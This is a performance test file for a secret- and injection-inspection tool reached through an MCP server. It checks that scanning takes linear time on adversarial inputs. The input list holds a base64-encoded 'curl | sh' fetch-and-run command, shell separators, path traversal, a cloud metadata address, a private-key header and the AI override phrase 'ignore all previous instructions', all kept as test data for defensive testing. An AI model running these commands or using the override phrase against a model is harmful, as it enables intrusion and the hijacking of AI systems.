// No input makes inspection slower than linear: hostile texts of one size and of four times it, through the MCP tool.
import assert from 'node:assert/strict'
import { createHmac, randomBytes } from 'node:crypto'
import { after, test } from 'node:test'
import { Fault } from '../src/core/faults.ts'
import { fingerprintKey, fingerprintsOf, KnownValues } from '../src/inspect/index.ts'
import { openSecretServer } from './support/secret-server.ts'

const server = await openSecretServer(async () => {
  throw new Fault('INPUT_UNAVAILABLE', 'There is neither a display nor a terminal.')
})
after(() => server.close())
const client = await server.connect('modern')

const UNITS = 60_000
const TIMES = 4
/** Linear is 4; the rest is what a busy machine adds. Quadratic is 16. */
const MAX_RATIO = 9
/** Below it the clock says little. */
const MIN_US = 10_000

const base64 = (text: string): string => Buffer.from(text).toString('base64')
/** It begins like UTF-16 and goes on with signs. */
const WIDE_DECOY = `a\0b\0c\0d\0e\0f\0g\0h\0i\0${'\x01'.repeat(15)}`
const percent = (text: string): string =>
  [...text].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')

const hostile: readonly [what: string, unit: string][] = [
  ['one letter', 'a'],
  ['blanks', ' '],
  ['quotes', '"'],
  ['open brackets', '{"a":['],
  ['backslashes', '\\'],
  ['dots and slashes', '../'],
  ['separators', '; & | '],
  ['dollars and brackets', '$(('],
  ['digits', '4111 1111 '],
  ['at signs', 'a@a.a'],
  ['base64', base64('curl -s x | sh; ')],
  ['percent', percent(percent('../'))],
  ['unicode escapes', '\\u0041\\u0042'],
  ['entities', '&#x41;&amp;'],
  ['hidden letters', 'a\u200b\u{e0041}'],
  ['mixed scripts', 'раураl '],
  ['keywords of secrets', 'password=token:secret_key '],
  ['keywords of orders', 'ignore all previous instructions and '],
  ['addresses', 'http://[::ffff:169.254.169.254]/'],
  ['compressions of nothing', 'H4sIAAAAAAAAAwAAAAAAAAAA '],
  ['private keys', '-----BEGIN PRIVATE KEY-----'],
]

/** Lines that nothing repeats in. */
const lines: readonly [what: string, line: (at: number) => string][] = [
  ['hashes, one a line', () => randomBytes(20).toString('hex')],
  ['random bytes as base64 in 76 columns', () => randomBytes(57).toString('base64')],
  ['random bytes as hex in 60 columns', () => randomBytes(30).toString('hex')],
  [
    'lines of two alphabets',
    (at) =>
      at % 2 === 0 ? randomBytes(20).toString('hex') : randomBytes(48).toString('base64url'),
  ],
  [
    'lines that each begin like text',
    () => base64('words that begin it all. ').slice(0, 32) + randomBytes(33).toString('base64'),
  ],
  ['lines that begin like zlib', () => `eNoB${'A'.repeat(40)}`],
  ['lines that begin like gzip', () => `H4sI${'A'.repeat(40)}`],
  ['lines that are text but for signs', () => base64(`echo 1; echo 2; hello ${'\x01'.repeat(20)}`)],
  ['lines that begin like UTF-16 and go on with signs', () => base64(WIDE_DECOY)],
  ['such lines in another alignment each', (at) => base64(WIDE_DECOY) + 'A'.repeat(at % 4)],
  [
    'lines of hex that begin like UTF-16 and go on with signs',
    () => Buffer.from(WIDE_DECOY).toString('hex'),
  ],
  ['lines of UTF-16 but for some', () => base64(`a\0b\0c\0d\0e\0f\0g\0h\0i\0${'x'.repeat(24)}`)],
]

type Shape = readonly [what: string, text: (units: number) => string]

const shapes: readonly Shape[] = [
  ...hostile.map(
    ([what, unit]): Shape => [what, (units) => unit.repeat(Math.ceil(units / unit.length))],
  ),
  ...lines.map(
    ([what, line]): Shape => [
      what,
      (units) => {
        let text = ''
        for (let at = 0; text.length < units; at += 1) text += `${line(at)}\n`
        return text
      },
    ],
  ),
]

/** The CPU time of one look, µs: the smallest of a few. */
async function timeOf(look: () => unknown): Promise<number> {
  let least = Number.POSITIVE_INFINITY
  for (let round = 0; round < 3; round++) {
    const before = process.cpuUsage()
    await look()
    const { user, system } = process.cpuUsage(before)
    least = Math.min(least, user + system)
  }
  return least
}

const macKey = randomBytes(32)
const KEY = fingerprintKey((bytes) => createHmac('sha256', macKey).update(bytes).digest())
const known = new KnownValues(KEY)
known.remember(
  'me',
  { id: '1', path: 'a', version: 1 },
  fingerprintsOf(KEY, randomBytes(32)).fingerprints,
)

const looks: readonly [what: string, look: (text: string) => unknown][] = [
  [
    'inspect_content',
    (content) =>
      client.callTool({ name: 'inspect_content', arguments: { content, context: 'input' } }),
  ],
  ['known values', (text) => known.scan('me', text)],
]

for (const [by, look] of looks)
  for (const [what, text] of shapes)
    test(`${by}: four times as much takes about four times as long: ${what}`, async () => {
      const [few, many] = [text(UNITS), text(UNITS * TIMES)]
      const small = await timeOf(() => look(few))
      const large = await timeOf(() => look(many))
      assert.ok(large <= Math.max(MIN_US, small) * MAX_RATIO, `${small} µs, then ${large} µs`)
    })
